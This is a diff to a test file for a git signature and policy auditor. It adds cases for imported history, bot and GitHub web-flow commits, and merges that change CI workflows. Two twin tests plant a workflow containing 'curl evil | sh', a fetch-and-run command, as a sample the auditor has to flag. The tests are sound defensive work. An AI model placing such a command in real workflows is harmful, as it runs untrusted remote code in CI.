@@ -1,10 +1,12 @@
 // Fourth round of clean set-ups that must pass (see clean-workflows.test.ts, -2 and -3): each case
 // here was a false failure (a rule failing where a security engineer sees nothing wrong), and each
 // keeps a twin that still fails, so the fix cannot have switched the check off.
-import { rmSync, symlinkSync } from 'node:fs';
+import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { makeGpg, type Gpg } from '../helpers/gpg.js';
 import { join } from 'node:path';
 import { makeRepo, cleanupTemp, type TestRepo } from '../helpers/repo.js';
-import { sshSigningRepo } from '../helpers/signing-repo.js';
+import { sshSigningRepo, tryGit } from '../helpers/signing-repo.js';
 import { makeSshKey, type SshTestKey } from '../helpers/ssh.js';
 import { caLine, issueCert, type CertOptions } from '../helpers/ssh-cert.js';
 import { runMain, parseJson, resultOf, stderrLines, type JsonReport } from '../helpers/cli.js';
@@ -17,8 +19,14 @@ const audit = async (r: TestRepo, rules: string[], extra: string[] = []) => {
   });
   return { code: res.code, report: res.code === 2 ? undefined : parseJson(res), res };
 };
-const outcomes = (report: JsonReport, rules: string[]) =>
-  Object.fromEntries(rules.map((id) => [id, resultOf(report, id).outcome]));
+/** Each rule's outcome; with CP4_DEBUG set, the failing and warning findings are printed. */
+const outcomes = (report: JsonReport, rules: string[]) => {
+  if (process.env.CP4_DEBUG)
+    for (const x of report.results)
+      if (x.outcome === 'fail' || x.outcome === 'warn')
+        console.log(x.meta.id, JSON.stringify(x.findings.map((f) => f.message)));
+  return Object.fromEntries(rules.map((id) => [id, resultOf(report, id).outcome]));
+};
 
 let tick = 0;
 /** Writes `files`, stages everything and commits signed with `key` (a -cert.pub file signs with
@@ -230,5 +238,241 @@ describe('keys/ entries that are not files: never read, never trusted, and said 
     expect(stderrLines(res).join('\n')).toContain(
       'allowed_signers is a symbolic link, not a file: gitguard follows no links; commit the file itself',
     );
+  });
+});
+
+describe('real-world shapes: imports, bots, GitHub merges of workflow changes', () => {
+  // People sign with SSH keys; GitHub's web-flow key is a stand-in with its user ID, named by the
+  // policy's forges: as the README's recipe says.
+  const at = (iso: string): number => Date.parse(iso) / 1000;
+  let gpg: Gpg;
+  let webFlow: string;
+  let alice: SshTestKey;
+  let bob: SshTestKey;
+  let bot: SshTestKey;
+  const POLICY = (extra = ''): string =>
+    'version: 1\nsigners:\n  - name: Alice\n    emails: [alice@example.com]\n  - name: Bob\n    emails: [bob@example.com]\n' +
+    `  - name: release-bot\n    emails: ["release-bot@example.com"]\nmaintainers: [Alice]\n` +
+    `forges:\n  - name: GitHub\n    committer: noreply@github.com\n    openpgp: [${webFlow}]\n${extra}`;
+  const RULES = [
+    'commits-signed',
+    'signatures-valid',
+    'signers-authorized',
+    'signer-matches-committer',
+    'policy-changes-authorized',
+    'protected-paths-changed-by-maintainers',
+    'commit-dates-plausible',
+    'trust-root-in-history',
+    'tags-signed',
+  ];
+
+  beforeAll(() => {
+    gpg = makeGpg(mkdtempSync(join(tmpdir(), 'gg-cw4-')));
+    webFlow = gpg.genKey('GitHub <noreply@github.com>', 'rsa2048', { at: at('2024-01-01T00:00:00Z') });
+    const home = makeRepo().home;
+    alice = makeSshKey(home, 'ed25519', 'alice');
+    bob = makeSshKey(home, 'ed25519', 'bob');
+    bot = makeSshKey(home, 'ed25519', 'release-bot');
+  });
+  afterAll(() => gpg.kill());
+
+  /** git signing with `who`'s key as `email` (author and committer), at `iso`. */
+  const as = (who: SshTestKey, email: string, iso: string) => ({
+    args: ['-c', 'gpg.format=ssh', '-c', `user.signingkey=${who.path}`],
+    env: {
+      GIT_AUTHOR_DATE: iso,
+      GIT_COMMITTER_DATE: iso,
+      GIT_AUTHOR_NAME: email.split('@')[0]!,
+      GIT_AUTHOR_EMAIL: email,
+      GIT_COMMITTER_NAME: email.split('@')[0]!,
+      GIT_COMMITTER_EMAIL: email,
+    },
+  });
+  /** A commit GitHub makes (committer GitHub, web-flow signed), authored by `author`. */
+  const github = (r: TestRepo, iso: string, args: string[], author: string): string => {
+    r.run(
+      ['-c', 'gpg.format=openpgp', '-c', `gpg.program=${gpg.wrapper}`, '-c', `user.signingkey=${webFlow}`, ...args],
+      {
+        env: {
+          GNUPGHOME: gpg.home,
+          GG_GPG_ARGS: `--faked-system-time ${at(iso)}!`,
+          GIT_COMMITTER_NAME: 'GitHub',
+          GIT_COMMITTER_EMAIL: 'noreply@github.com',
+          GIT_COMMITTER_DATE: iso,
+          GIT_AUTHOR_DATE: iso,
+          GIT_AUTHOR_NAME: author.split('@')[0]!,
+          GIT_AUTHOR_EMAIL: author,
+        },
+      },
+    );
+    return r.head();
+  };
+  /** The policy commit (Alice's), with allowed_signers and web-flow's key. */
+  const withPolicy = (r: TestRepo, iso: string, extra = ''): string => {
+    r.write({
+      '.gitguard/policy.yml': POLICY(extra),
+      '.gitguard/allowed_signers': `alice@example.com ${alice.pub}\nbob@example.com ${bob.pub}\nrelease-bot@example.com ${bot.pub}\n`,
+    });
+    mkdirSync(join(r.dir, '.gitguard', 'keys'), { recursive: true });
+    writeFileSync(join(r.dir, '.gitguard', 'keys', 'web-flow.gpg'), gpg.exportPublic(webFlow));
+    r.run(['add', '-A']);
+    const a = as(alice, 'alice@example.com', iso);
+    r.run([...a.args, 'commit', '-q', '-S', '-m', 'policy'], { env: a.env });
+    return r.head();
+  };
+  const signed = (
+    r: TestRepo,
+    who: SshTestKey,
+    email: string,
+    iso: string,
+    msg: string,
+    files: Record<string, string>,
+  ) => {
+    r.write(files);
+    r.run(['add', '-A']);
+    const a = as(who, email, iso);
+    r.run([...a.args, 'commit', '-q', '-S', '-m', msg], { env: a.env });
+    return r.head();
+  };
+
+  test('history imported with git fast-import (unsigned, 2009-2015), the policy after it: every rule passes', async () => {
+    const r = makeRepo();
+    const lines: string[] = [];
+    ['2009-03-01', '2012-07-15', '2015-11-30'].forEach((day, i) => {
+      const t = at(`${day}T12:00:00Z`);
+      const msg = `svn r${100 + i}\n\ngit-svn-id: https://svn.example.com/repo/trunk@${100 + i} 1b2c3d4e-0000-0000-0000-000000000000\n`;
+      lines.push(
+        'commit refs/heads/main',
+        `mark :${i + 1}`,
+        `author old-timer <old-timer@1b2c3d4e-0000-0000-0000-000000000000> ${t} +0000`,
+        `committer old-timer <old-timer@1b2c3d4e-0000-0000-0000-000000000000> ${t} +0000`,
+        `data ${Buffer.byteLength(msg)}`,
+        msg,
+        ...(i ? [`from :${i}`] : []),
+        `M 644 inline src/file${i}.c`,
+        'data 2',
+        `${i}`,
+        '',
+      );
+    });
+    r.run(['fast-import', '--quiet'], { input: lines.join('\n') + '\n' });
+    r.run(['checkout', '-q', '-f', 'main']);
+    withPolicy(r, '2024-02-01T10:00:00Z');
+    signed(r, bob, 'bob@example.com', '2024-02-02T10:00:00Z', 'work', { 'src/new.c': 'x\n' });
+    const { code, report } = await audit(r, RULES);
+    expect(outcomes(report!, RULES)).toMatchObject({
+      'commits-signed': 'pass',
+      'signers-authorized': 'pass',
+      'protected-paths-changed-by-maintainers': 'pass',
+      'commit-dates-plausible': 'pass',
+    });
+    expect(code).toBe(0);
+  });
+
+  test('a release tag signed by the release bot (its own key, tagger the bot); dependabot via web-flow: pass', async () => {
+    const r = makeRepo();
+    withPolicy(r, '2024-02-01T10:00:00Z');
+    signed(r, bob, 'bob@example.com', '2024-02-02T10:00:00Z', 'work', { 'src/a.c': 'a\n' });
+    r.write({ 'package.json': '{"dependencies":{"lodash":"4.17.21"}}\n' });
+    r.run(['add', '-A']);
+    github(
+      r,
+      '2024-02-03T10:00:00Z',
+      ['commit', '-q', '-S', '-m', 'Bump lodash from 4.17.20 to 4.17.21'],
+      '49699333+dependabot[bot]@users.noreply.github.com',
+    );
+    const b = as(bot, 'release-bot@example.com', '2024-02-04T10:00:00Z');
+    r.run([...b.args, 'tag', '-s', '-m', 'Release 1.0.0', 'v1.0.0'], { env: b.env });
+    const { code, report } = await audit(r, RULES);
+    expect(outcomes(report!, RULES)).toEqual(Object.fromEntries(RULES.map((id) => [id, 'pass'])));
+    expect(code).toBe(0);
+  });
+
+  test('a workflow change signed by a maintainer on a branch, merged by the GitHub merge button: pass', async () => {
+    const r = makeRepo();
+    withPolicy(r, '2024-02-01T10:00:00Z');
+    signed(r, alice, 'alice@example.com', '2024-02-02T10:00:00Z', 'ci', { '.github/workflows/ci.yml': 'on: push\n' });
+    r.run(['checkout', '-q', '-b', 'ci-update']);
+    signed(r, alice, 'alice@example.com', '2024-02-03T10:00:00Z', 'ci: add lint job', {
+      '.github/workflows/lint.yml': 'on: pull_request\n',
+    });
+    r.run(['checkout', '-q', 'main']);
+    // Meanwhile another maintainer-signed workflow change lands on main: the merge combines both.
+    signed(r, alice, 'alice@example.com', '2024-02-04T10:00:00Z', 'ci: pin actions', {
+      '.github/workflows/ci.yml': 'on: [push]\n',
+    });
+    github(
+      r,
+      '2024-02-05T10:00:00Z',
+      ['merge', '-q', '--no-ff', '-S', '-m', 'Merge pull request #7 from example/ci-update', 'ci-update'],
+      'alice@example.com',
+    );
+    expect(r.run(['rev-list', '--parents', '-1', 'HEAD']).split(' ')).toHaveLength(3);
+    const { code, report } = await audit(r, RULES);
+    expect(outcomes(report!, RULES)).toEqual({
+      ...Object.fromEntries(RULES.map((id) => [id, 'pass'])),
+      'tags-signed': 'not-applicable',
+    });
+    expect(code).toBe(0);
+  });
+
+  test('twins: a merge that adds to a workflow what neither side had, or resolves a workflow conflict by hand, still fails', async () => {
+    const rules = ['protected-paths-changed-by-maintainers'];
+    const setUp = (): TestRepo => {
+      const r = makeRepo();
+      withPolicy(r, '2024-02-01T10:00:00Z');
+      signed(r, alice, 'alice@example.com', '2024-02-02T10:00:00Z', 'ci', { '.github/workflows/ci.yml': 'on: push\n' });
+      r.run(['checkout', '-q', '-b', 'topic']);
+      signed(r, alice, 'alice@example.com', '2024-02-03T10:00:00Z', 'ci: topic', {
+        '.github/workflows/ci.yml': 'on: pull_request\n',
+      });
+      r.run(['checkout', '-q', 'main']);
+      signed(r, bob, 'bob@example.com', '2024-02-04T10:00:00Z', 'docs', { 'README.md': 'docs\n' });
+      return r;
+    };
+    // An evil merge: the merge commit itself adds a workflow.
+    const evil = setUp();
+    evil.run(['merge', '-q', '--no-ff', '--no-commit', 'topic']);
+    evil.write({ '.github/workflows/exfiltrate.yml': 'on: push\nrun: curl evil | sh\n' });
+    evil.run(['add', '-A']);
+    github(evil, '2024-02-05T10:00:00Z', ['commit', '-q', '-S', '-m', 'Merge pull request #8'], 'alice@example.com');
+    const a = await audit(evil, rules);
+    expect(outcomes(a.report!, rules)).toEqual({ 'protected-paths-changed-by-maintainers': 'fail' });
+    expect(a.code).toBe(1);
+    // Both sides changed ci.yml: whatever the merge holds there was written by whoever resolved it.
+    const conflict = setUp();
+    signed(conflict, alice, 'alice@example.com', '2024-02-04T11:00:00Z', 'ci: main', {
+      '.github/workflows/ci.yml': 'on: [push]\n',
+    });
+    expect(tryGit(conflict, ['merge', '-q', '--no-ff', '--no-commit', 'topic']).code).toBe(1);
+    conflict.write({ '.github/workflows/ci.yml': 'on: [push, pull_request]\n' });
+    conflict.run(['add', '-A']);
+    github(
+      conflict,
+      '2024-02-05T10:00:00Z',
+      ['commit', '-q', '-S', '-m', 'Merge pull request #9'],
+      'alice@example.com',
+    );
+    const c = await audit(conflict, rules);
+    expect(outcomes(c.report!, rules)).toEqual({ 'protected-paths-changed-by-maintainers': 'fail' });
+    expect(c.code).toBe(1);
+  });
+
+  test('twin: a web-flow commit authored as a maintainer that changes a workflow (squash, rebase-merge or web editor) still fails', async () => {
+    // GitHub copies the author of a rebase-merged commit from the branch, where anybody can write
+    // any author: the author of a commit GitHub signs is not authenticated, so it never stands for
+    // a maintainer's signature.
+    const r = makeRepo();
+    withPolicy(r, '2024-02-01T10:00:00Z');
+    r.write({ '.github/workflows/ci.yml': 'on: push\nrun: curl evil | sh\n' });
+    r.run(['add', '-A']);
+    github(r, '2024-02-02T10:00:00Z', ['commit', '-q', '-S', '-m', 'Update ci.yml'], 'alice@example.com');
+    const rules = ['signers-authorized', 'protected-paths-changed-by-maintainers'];
+    const { code, report } = await audit(r, rules);
+    expect(outcomes(report!, rules)).toEqual({
+      'signers-authorized': 'pass',
+      'protected-paths-changed-by-maintainers': 'fail',
+    });
+    expect(code).toBe(1);
   });
 });
